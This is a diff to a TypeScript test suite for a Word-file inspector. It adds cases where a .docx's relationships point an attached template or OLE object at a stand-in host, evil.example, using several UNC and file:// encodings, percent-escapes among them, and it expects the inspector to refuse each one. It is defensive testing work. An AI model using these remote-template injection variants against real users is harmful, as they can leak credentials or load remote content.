@@ -28,6 +28,11 @@ const relation = (type: string, target: string): Buffer =>
   aWordFile({
     'word/_rels/document.xml.rels': `<Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
   });
+const aNumbered = (): Buffer =>
+  aZip([
+    { name: '[Content_Types].xml', content: '<Types xmlns="x"/>' },
+    { name: 'word/document2.xml', content: DOCUMENT },
+  ]);
 const FRAME = 'Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"';
 const relations = (tags: string): Buffer =>
   aWordFile({
@@ -73,6 +78,15 @@ describe('a Word file [req:attack-a56 req:attack-a58 req:attack-a59]', () => {
     ['a template of another machine', relation('attachedTemplate', 'https://evil.example/t.dotm')],
     ['a template of a share', relation('attachedTemplate', '\\\\evil.example\\t.dotm')],
     ['a template of a share by address', relation('attachedTemplate', 'file://evil.example/t.dotm')],
+    [
+      'a template of a share, as Word writes it',
+      relation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm'),
+    ],
+    ['a template of a share behind slashes', relation('attachedTemplate', 'file:////evil.example/t.dotm')],
+    [
+      'a template of a share behind escapes',
+      relation('attachedTemplate', 'file:///%5C%5Cevil.example/t.dotm'),
+    ],
     ['an object of another machine', relation('oleObject', 'http://evil.example/x.html!')],
     [
       'a handler of help files',
@@ -94,11 +108,12 @@ describe('a Word file [req:attack-a56 req:attack-a58 req:attack-a59]', () => {
     ['a macro under a name of its own', aWordFile({ 'word/VBAPROJECT.BIN': 'x' })],
     ['a control', aWordFile({ 'word/activeX/activeX1.xml': '<x/>' })],
   ])('with %s is refused', async (_what, bytes) => {
-    expect(await inspect(bytes)).toEqual({ problem: 'type' });
+    expect(await inspect(bytes)).toEqual({ problem: 'active' });
   });
 
   it.each<[string, Buffer]>([
     ['as Word writes it', aWordFile()],
+    ['as Word on the web numbers it', aNumbered()],
     ['in UTF-16', aWordFile({ 'word/document.xml': utf16('<?xml version="1.0" encoding="UTF-16"?><x/>') })],
     ['stored, not packed', aDocx()],
     ['with a link to click on', relation('hyperlink', 'https://example.com/')],
